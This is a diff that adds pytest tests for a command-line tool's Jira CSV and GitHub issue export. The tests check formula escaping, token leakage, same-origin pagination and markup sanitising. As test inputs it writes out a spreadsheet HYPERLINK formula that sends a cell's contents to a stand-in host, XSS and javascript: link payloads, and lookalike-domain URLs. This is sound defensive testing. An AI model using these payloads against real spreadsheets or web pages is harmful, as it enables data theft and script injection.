@@ -4,13 +4,22 @@ hidden structure, or a file or the terminal with a known secret in it. See docs/
 
 from __future__ import annotations
 
+import csv
+import io
+import json
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from typing import Any
+from typing import Any, ClassVar
 
 import pytest
+from helpers.fake_github import FakeGithub
 from typer.testing import CliRunner, Result
 
 from agent.cli.main import app
+from agent.integrations.export.github import GithubClient
+from agent.integrations.export.records import records_path
 
 SPECS = Path(__file__).parent.parent / "data" / "specs"
 CLEAN = (SPECS / "clean.md").read_text(encoding="utf-8")
@@ -21,11 +30,209 @@ def run(*args: str | Path, env: dict[str, str] | None = None, stdin: str | None 
     return CliRunner().invoke(app, [str(a) for a in args], env={**ENV, **(env or {})}, input=stdin)
 
 
+def github_env(fake: FakeGithub) -> dict[str, str]:
+    return {"GITHUB_TOKEN": fake.token, "GH_TOKEN": "", "GITHUB_API_URL": fake.api}
+
+
 def _spec(folder: Path, text: str = CLEAN, name: str = "spec.md") -> Path:
     folder.mkdir(parents=True, exist_ok=True)
     path = folder / name
     path.write_text(text, encoding="utf-8")
     return path
+
+
+# -- export: Jira CSV -------------------------------------------------------------------------------
+
+HOSTILE_PHASES = [
+    '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"Click") Phase 1',
+    "@Phase2",
+    "+1 Phase",
+    "-2 Phase",
+]
+
+
+def test_jira_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    text = CLEAN
+    phases = iter(HOSTILE_PHASES)
+    lines = []
+    for line in text.splitlines():
+        if line.startswith("### Phase"):
+            line = "### " + next(phases)
+        lines.append(line)
+    lines.append("- [ ] \tTab-led task")
+    spec = _spec(tmp_path, "\n".join(lines) + "\n")
+    result = run("export", spec, "--to", "jira-csv")
+    assert result.exit_code == 0, result.output
+    rows = list(csv.reader(io.StringIO(result.stdout)))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    summaries = [row[1] for row in rows if row[3] == "Epic"]
+    assert "'" + HOSTILE_PHASES[0] in summaries and "'@Phase2" in summaries  # shown, not run
+
+
+# -- export: GitHub ---------------------------------------------------------------------------------
+
+
+def test_a_token_echoed_in_html_url_is_neither_printed_nor_stored(
+    tmp_path: Path, fake_github: FakeGithub
+) -> None:
+    fake_github.echo_token_in_url = True
+    spec = _spec(tmp_path)
+    result = run("export", spec, "--to", "github", "--repo", "acme/widgets", env=github_env(fake_github))
+    assert result.exit_code == 0, result.output
+    assert "created T-001: #1 https://github.example/acme/widgets/issues/1" in result.output
+    json_run = run(
+        "export", spec, "--to", "github", "--repo", "acme/widgets", "--json", env=github_env(fake_github)
+    )
+    for text in (result.output, json_run.output, records_path(spec).read_text(encoding="utf-8")):
+        assert fake_github.token not in text
+        assert fake_github.token[4:] not in text
+
+
+def test_issues_of_another_spec_or_a_stranger_are_not_ours(tmp_path: Path, fake_github: FakeGithub) -> None:
+    env = github_env(fake_github)
+    spec_a = _spec(tmp_path / "a")
+    assert run("export", spec_a, "--to", "github", "--repo", "acme/widgets", env=env).exit_code == 0
+    fake_github.add_issue("Question about [T-001]", "How is [T-001] tested?")
+    spec_b = _spec(tmp_path / "b", CLEAN.replace("description:", "id: spec-b\ndescription:"))
+    result = run("export", spec_b, "--to", "github", "--repo", "acme/widgets", "--json", env=env)
+    assert result.exit_code == 0, result.output
+    summary = json.loads(result.stdout)
+    assert len(summary["created"]) == 8 and summary["skipped"] == {}
+    assert len(fake_github.created) == 16
+    assert "<!-- specdraft: spec=spec-b task=T-001 -->" in fake_github.created[8]["body"]
+    # a rerun of B without its records file finds B's issues by their marker, not A's
+    records_path(spec_b).unlink()
+    again = json.loads(
+        run("export", spec_b, "--to", "github", "--repo", "acme/widgets", "--json", env=env).stdout
+    )
+    assert again["created"] == {} and again["skipped"]["T-001"].endswith("/issues/10")  # 9 is the stranger's
+
+
+class _Capture(BaseHTTPRequestHandler):
+    """Records the Authorization header of every request (class attribute ``seen``)."""
+
+    seen: ClassVar[list[str]] = []
+
+    def log_message(self, format: str, *args: Any) -> None:
+        pass
+
+    def do_GET(self) -> None:
+        self.seen.append(self.headers.get("Authorization", ""))
+        body = b"[]"
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+
+def _serve(httpd: ThreadingHTTPServer) -> threading.Thread:
+    thread = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
+    thread.start()
+    return thread
+
+
+@pytest.fixture
+def prefix_ports() -> Iterator[tuple[FakeGithub, str]]:
+    """A fake GitHub on port P and a capturing listener on a port whose digits start with P's
+    (GITHUB_API_URL=http://127.0.0.1:4701, next link to http://127.0.0.1:47012/...)."""
+    from helpers.fake_github import _handler
+
+    fake = FakeGithub()
+    for _attempt in range(50):
+        capture = ThreadingHTTPServer(("127.0.0.1", 0), _Capture)
+        port = capture.server_address[1] // 10
+        try:
+            api = ThreadingHTTPServer(("127.0.0.1", port), _handler(fake)) if port > 1024 else None
+        except OSError:
+            api = None
+        if api is not None:
+            break
+        capture.server_close()
+    else:
+        pytest.skip("no pair of free loopback ports found")
+    fake.port = port
+    threads = [_serve(capture), _serve(api)]
+    try:
+        yield fake, f"http://127.0.0.1:{capture.server_address[1]}"
+    finally:
+        for httpd in (capture, api):
+            httpd.shutdown()
+            httpd.server_close()
+        for thread in threads:
+            thread.join(timeout=5)
+
+
+def test_a_next_page_on_a_longer_port_never_receives_the_token(prefix_ports: tuple[FakeGithub, str]) -> None:
+    fake, elsewhere = prefix_ports
+    assert elsewhere.startswith(fake.api)
+    _Capture.seen = []
+    for n in range(3):
+        fake.add_issue(f"issue {n}")
+    fake.next_base = elsewhere
+    client = GithubClient("acme/widgets", fake.token, api=fake.api)
+    try:
+        client.existing_task_issues("spec.md")
+    except TypeError:  # the call as it was before issues were keyed on the spec
+        client.existing_task_issues()  # type: ignore[call-arg]
+    finally:
+        client.close()
+    assert _Capture.seen == []
+    assert [m for m, _ in fake.requests] == ["GET"]
+
+
+@pytest.mark.parametrize(
+    ("url", "ours"),
+    [
+        ("http://127.0.0.1:4701/repos/o/r/issues?page=2", True),
+        ("http://127.0.0.1:47012/repos/o/r/issues?page=2", False),
+        ("http://127.0.0.1:4701@127.0.0.1:9/repos", False),
+        ("https://127.0.0.1:4701/repos", False),
+        ("http://localhost:4701/repos", False),
+    ],
+)
+def test_next_links_must_have_the_apis_scheme_host_and_port(url: str, ours: bool) -> None:
+    from agent.integrations.export.github import same_origin
+
+    assert same_origin(url, "http://127.0.0.1:4701") is ours
+
+
+def test_next_links_on_github_com() -> None:
+    from agent.integrations.export.github import same_origin
+
+    assert same_origin("https://api.github.com/repositories/1/issues?page=2", "https://api.github.com")
+    assert same_origin("https://api.github.com:443/repos", "https://api.github.com")
+    assert not same_origin("https://api.github.com.evil.example/repos", "https://api.github.com")
+    assert not same_origin("https://ghe.example/other/repos", "https://ghe.example/api/v3")
+
+
+def test_issue_text_notifies_nobody_and_runs_nothing(tmp_path: Path, fake_github: FakeGithub) -> None:
+    hostile = "@octocat and @acme/admins <img src=x onerror=alert(1)> [docs](javascript:alert(1)) `List<T>`"
+    text = CLEAN.replace("- [ ] Enable for all workspaces", f"- [ ] Enable for {hostile}")
+    text = text.replace("### Phase 4: Deployment (Week 7-8)", f"### Phase 4: Deployment {hostile}")
+    spec = _spec(tmp_path, text)
+    result = run("export", spec, "--to", "github", "--repo", "acme/widgets", env=github_env(fake_github))
+    assert result.exit_code == 0, result.output
+    issue = next(i for i in fake_github.created if "octocat" in i["title"])
+    for field in (issue["title"], issue["body"]):
+        assert "@octocat" not in field and "@acme" not in field and "@&#8203;octocat" in field
+        assert "<img" not in field and "&lt;img" in field
+        assert "](javascript:" not in field
+        assert "`List<T>`" in field  # code spans are shown as they are
+
+
+def test_a_body_over_githubs_limit_is_cut_with_a_note(tmp_path: Path, fake_github: FakeGithub) -> None:
+    long_requirement = "very " * 16_000
+    text = CLEAN.replace("An admin invites one or more", f"An admin {long_requirement} invites one or more")
+    spec = _spec(tmp_path, text)
+    result = run(
+        "export", spec, "--to", "github", "--repo", "acme/widgets", "--json", env=github_env(fake_github)
+    )
+    assert result.exit_code == 0, result.output
+    bodies = [i["body"] for i in fake_github.created]
+    assert max(len(b) for b in bodies) <= 65_536  # GitHub's limit
+    cut = [b for b in bodies if "65,536-character limit" in b]
+    assert cut and all(b.endswith(" -->") and "task=T-" in b.splitlines()[-1] for b in cut)
 
 
 # -- model answers: no structure once rendered ------------------------------------------------------
